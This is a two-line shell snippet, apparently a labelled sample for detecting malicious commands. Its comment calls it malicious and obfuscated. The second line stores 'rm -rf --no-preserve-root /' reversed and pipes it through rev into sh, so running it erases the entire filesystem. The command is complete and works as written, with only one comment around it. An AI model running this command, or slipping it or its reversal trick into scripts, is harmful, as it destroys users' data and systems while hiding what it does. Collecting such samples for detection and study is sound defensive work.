# Malicious, obfuscated: the command is stored reversed and flipped by rev before sh runs it (rm -rf /).
echo '/ toor-evreserp-on-- fr- mr' | rev | sh
